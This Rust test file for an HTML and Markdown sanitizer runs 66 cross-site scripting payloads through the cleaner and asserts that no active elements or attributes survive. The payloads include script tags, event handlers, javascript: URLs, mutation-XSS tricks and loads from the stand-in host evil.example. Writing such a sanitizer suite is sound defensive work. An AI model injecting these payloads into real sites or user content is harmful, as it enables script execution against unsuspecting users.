//! Attempts to get something active through. The outputs are parsed as a browser would and looked at element by element.

use galley_domain::rich_text::{Address, Markup};
use scraper::Node;

use crate::{GalleyMarkup, read::page};

const PAYLOADS: [&str; 66] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr<noscript>ipt>alert(1)</scr</noscript>ipt>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=x srcset=\"javascript:alert(1) 1x\">",
    "<img src=\"/a\" alt='\"><script>alert(1)</script>'>",
    "<image href=javascript:alert(1)>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href=\" javascript:alert(1)\">a</a>",
    "<a href=\"java&#10;script:alert(1)\">a</a>",
    "<a href=\"java&Tab;script:alert(1)\">a</a>",
    "<a href=\"javascript&colon;alert(1)\">a</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">a</a>",
    "<a href=\"&#0000106&#0000097vascript:alert(1)\">a</a>",
    "<a href=\"\u{1}javascript:alert(1)\">a</a>",
    "<a href=\"vbscript:msgbox(1)\">a</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">a</a>",
    "<a href=\"/a\" onclick=alert(1) style=\"background:url(javascript:alert(1))\">a</a>",
    "<a href=\"/a\" ping=\"//evil.example\" target=_blank>a</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>a</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><desc><table><thead><s></table></s><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math href=\"javascript:alert(1)\">a</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<video><source onerror=alert(1) src=x></video>",
    "<video src=x onloadstart=alert(1) poster=javascript:alert(1)></video>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>a</button></form>",
    "<input type=image src=x onerror=alert(1)><input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>a</details>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"behavior:url(x.htc)\">a</div>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<title></title><img src=x onerror=alert(1)>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>a",
    "<pre><code class=\"language-x&quot; onclick=&quot;alert(1)\">a</code></pre>",
    "<a id=location name=location href=\"/a\">a</a>",
    "[a](javascript:alert(1))",
    "[a](<java\tscript:alert(1)>) ![b](data:text/html,x \"t\")",
    "<javascript:alert(1)> [a]: javascript:alert(1)\n\n[a]",
    "![x](/a \"\\\" onerror=alert(1) x=\\\"\")",
    "```\"><script>alert(1)</script>\na\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> `</td><script>alert(1)</script>` |",
];

#[test]
fn nothing_active_gets_into_a_document() {
    let markup = GalleyMarkup::new();
    for payload in PAYLOADS {
        for document in [markup.html_to_document(payload).value, markup.markdown_to_document(payload).value] {
            assert_document_html(&document.html(), payload);
            let markdown = markup.document_to_markdown(&document).value;
            assert_document_html(&markup.markdown_to_document(&markdown).value.html(), payload);
        }
    }
}

#[test]
fn nothing_active_gets_through_cleaning() {
    let markup = GalleyMarkup::new();
    for payload in PAYLOADS {
        for html in [markup.clean_html(payload), markup.markdown_to_html(payload)] {
            assert_inactive(&html, payload);
            assert_inactive(&markup.clean_html(&html), payload);
        }
    }
}

#[test]
fn a_form_of_words_around_an_attack_stays_readable() {
    let document = GalleyMarkup::new().html_to_document("<p>before <a href='javascript:x'>in</a> after</p>");
    assert_eq!(document.value.html(), "<p>before in after</p>");
    assert_eq!(document.lossy.len(), 1);
}

#[test]
fn deep_nesting_keeps_the_text_and_endless_nesting_ends_in_time() {
    let markup = GalleyMarkup::new();
    for open in ["<div>", "<ul><li>", "<blockquote>", "<b>", "<table><td>", "<dl><dd>"] {
        let deep = markup.html_to_document(&format!("{}deep", open.repeat(100)));
        assert_eq!(deep.value.plain_text().trim(), "deep", "{open}");
        let endless = format!("first{}deep", open.repeat(100_000));
        assert!(markup.html_to_document(&endless).value.plain_text().starts_with("first"), "{open}");
        assert!(markup.clean_html(&endless).starts_with("first"), "{open}");
    }
    for open in ["> ", "- * ", "[", "![", "*a ", "**a ", "| ", "1. 1) "] {
        let deep = markup.markdown_to_document(&format!("{}deep", open.repeat(100))).value;
        assert!(deep.plain_text().contains("deep"), "{open}");
        let endless = markup.markdown_to_document(&format!("first\n\n{}", open.repeat(20_000))).value;
        assert!(endless.plain_text().starts_with("first"), "{open}");
    }
}

/// Holds a document's HTML to the elements and attributes that a document has.
fn assert_document_html(html: &str, payload: &str) {
    const ELEMENTS: [&str; 32] = [
        "html",
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "ul",
        "ol",
        "li",
        "blockquote",
        "pre",
        "code",
        "hr",
        "img",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "strong",
        "em",
        "s",
        "u",
        "sup",
        "sub",
        "a",
        "br",
        "body",
        "head",
    ];
    const ATTRIBUTES: [&str; 9] =
        ["href", "title", "rel", "src", "alt", "class", "start", "colspan", "rowspan"];
    for_each_element(html, |name, attributes| {
        assert!(ELEMENTS.contains(&name), "<{name}> from {payload}: {html}");
        for (attribute, _) in attributes {
            assert!(ATTRIBUTES.contains(attribute), "{attribute} from {payload}: {html}");
        }
    });
    assert_inactive(html, payload);
}

fn assert_inactive(html: &str, payload: &str) {
    const ACTIVE: [&str; 19] = [
        "script", "style", "iframe", "object", "embed", "svg", "math", "form", "button", "link", "meta",
        "base", "template", "textarea", "title", "video", "audio", "source", "noscript",
    ];
    for_each_element(html, |name, attributes| {
        assert!(!ACTIVE.contains(&name), "<{name}> from {payload}: {html}");
        for (attribute, value) in attributes {
            let address = ["href", "src", "cite"].contains(attribute);
            assert!(!address || Address::link(value).is_ok(), "{attribute}={value} from {payload}: {html}");
            let active =
                ["style", "srcset", "srcdoc", "action", "formaction", "background", "name", "poster", "ping"];
            assert!(
                !attribute.starts_with("on") && !active.contains(attribute),
                "{attribute} from {payload}: {html}"
            );
        }
    });
}

fn for_each_element(html: &str, look: impl Fn(&str, &[(&str, &str)])) {
    for node in page::parse(html).html.tree.nodes() {
        if let Node::Element(element) = node.value() {
            look(element.name(), &element.attrs().collect::<Vec<_>>());
        }
    }
}
